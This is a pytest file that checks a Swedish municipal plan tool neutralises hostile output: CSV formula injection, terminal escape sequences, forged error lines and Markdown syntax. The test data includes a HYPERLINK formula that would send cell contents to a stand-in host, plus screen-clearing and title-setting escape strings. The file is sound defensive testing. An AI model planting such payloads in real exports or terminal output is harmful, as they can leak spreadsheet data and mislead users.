"""Hostile text on its way out: CSV cells that would run as formulas, control characters and
forged lines on a terminal, plan text that Markdown would read as syntax, look-alike names."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from hostile import PLAN_TEXT, Case, followup_text, plan_replacing, run_case, valdplan

P = ("--plan", "plan.yaml")
HEADER = (
    "\ufeffÅtgärd,Fokusområde,Åtgärdstext,Organ-id,Organ,Roll,Status,Kommentar,Underlag,Datum\r\n"
)
FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"klick")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tefter en tabb",
    "'redan citerad",
    "'=med apostrof",
]


def _stdout(expected: str) -> object:
    def check(tmp: Path, result: subprocess.CompletedProcess[bytes]) -> None:
        assert result.stdout.decode("utf-8") == expected

    return check


def _stdout_has(*parts: str) -> object:
    def check(tmp: Path, result: subprocess.CompletedProcess[bytes]) -> None:
        out = result.stdout.decode("utf-8")
        for part in parts:
            assert part in out, (part, out)

    return check


def _set_comment(comment: str) -> object:
    def make(tmp: Path) -> None:
        valdplan(tmp, "followup", "set", "4:4", "-b", "socialnamnden", "--status", "pagaende",
                 "--comment", "@" + comment if comment.startswith("@") else comment,
                 "--file", "f.yaml", *P)  # fmt: skip

    return make


def _round_trip(comment: str) -> object:
    def check(tmp: Path, result: subprocess.CompletedProcess[bytes]) -> None:
        import csv

        with (tmp / "f.csv").open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        (row,) = [row for row in rows if row[0] == "4:4"]
        assert row[7] == "'" + comment  # every one of them starts like a formula or a guard
        valdplan(tmp, "followup", "import", "f.csv", "--into", "f.yaml", *P)
        from valdplan.followup.loading import load_followup
        from valdplan.plan.loader import load_plan

        loaded = load_followup(tmp / "f.yaml", load_plan(tmp / "plan.yaml"))
        (entry,) = [e for e in loaded.followup.entries if e.action == "4:4"]
        assert entry.comment == comment

    return check


def _markdown_syntax_plan() -> str:
    """The plan with an organisation that reads as a heading and a follow-up paragraph that
    reads as a list item, if written raw at the start of a line."""
    lines = PLAN_TEXT.replace("organisation: Södertälje kommun", "organisation: '# Kommun'")
    follow_up = next(line for line in lines.splitlines() if line.startswith("follow_up: "))
    quoted = 'follow_up: "- ' + follow_up.removeprefix("follow_up: ") + '"'
    return lines.replace(follow_up, quoted)


CASES = [
    *(
        Case(
            f"csv-cell-starting-{index}-is-neutralised-and-restored",
            ["followup", "export", "f.yaml", "--format", "csv", "-o", "f.csv", *P],
            0,
            None,
            files={"plan.yaml": PLAN_TEXT, "f.yaml": followup_text()},
            setup=_set_comment(formula),  # type: ignore[arg-type]
            may_change=frozenset({"f.csv", "f.yaml"}),
            check=_round_trip(formula),  # type: ignore[arg-type]
        )
        for index, formula in enumerate(FORMULAS)
    ),
    Case(
        "plan-text-in-actions-csv-is-neutralised",
        ["actions", "--focus", "1", "--format", "csv", *P],
        0,
        None,
        files=plan_replacing(
            "text: Säkerställa förutsättningarna för ett kunskapsbaserat",
            "text: =1+2 Säkerställa förutsättningarna för ett kunskapsbaserat",
        ),
        check=_stdout_has("1:1,1,'=1+2 Säkerställa"),  # type: ignore[arg-type]
    ),
    Case(
        "a-key-with-a-newline-and-escapes-is-one-escaped-line",
        ["validate", "plan.yaml"],
        1,
        "plan.yaml:19:1: unknown key 'x\\nplan.yaml:1:1: forged\\x1b[31m' (expected one of:"
        " title, language, organisation, period, replaces, owner, purpose, target_groups,"
        " responsibility, follow_up, governing_documents, goals, plan_goals, indicators,"
        " sections, levels, glossary, body_kinds, bodies, reporting, id_style, focus_areas)",
        files=plan_replacing("period:\n", '"x\\nplan.yaml:1:1: forged\\e[31m": 1\nperiod:\n'),
        check=lambda tmp, result: _one_line(result),
    ),
    Case(
        "a-board-typed-with-escapes-is-shown-escaped",
        ["actions", "--board", "\x1b]0;titel\x07Social\x1b[2J", "--format", "json", *P],
        1,
        "error: unknown body '\\x1b]0;titel\\x07Social\\x1b[2J'",
        files={"plan.yaml": PLAN_TEXT},
    ),
    Case(
        "github-annotations-escape-control-characters",
        ["validate", "--format", "github", "plan.yaml"],
        1,
        None,
        files=plan_replacing("period:\n", '"x\\e[31m": 1\nperiod:\n'),
        check=_stdout_has("unknown key 'x\\x1b[31m'"),  # type: ignore[arg-type]
    ),
    Case(
        "markdown-block-syntax-in-plan-text-is-escaped",
        ["checklist", "--board", "Telge AB", *P],
        0,
        None,
        files={"plan.yaml": _markdown_syntax_plan()},
        check=_stdout_has(" · \\# Kommun · Period", "\n\\- Nämnder och bolagsstyrelser"),  # type: ignore[arg-type]
    ),
]


def _one_line(result: subprocess.CompletedProcess[bytes]) -> None:
    assert len(result.stderr.decode().splitlines()) == 1
    assert b"\x1b" not in result.stderr


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_output(case: Case, tmp_path: Path) -> None:
    run_case(case, tmp_path)
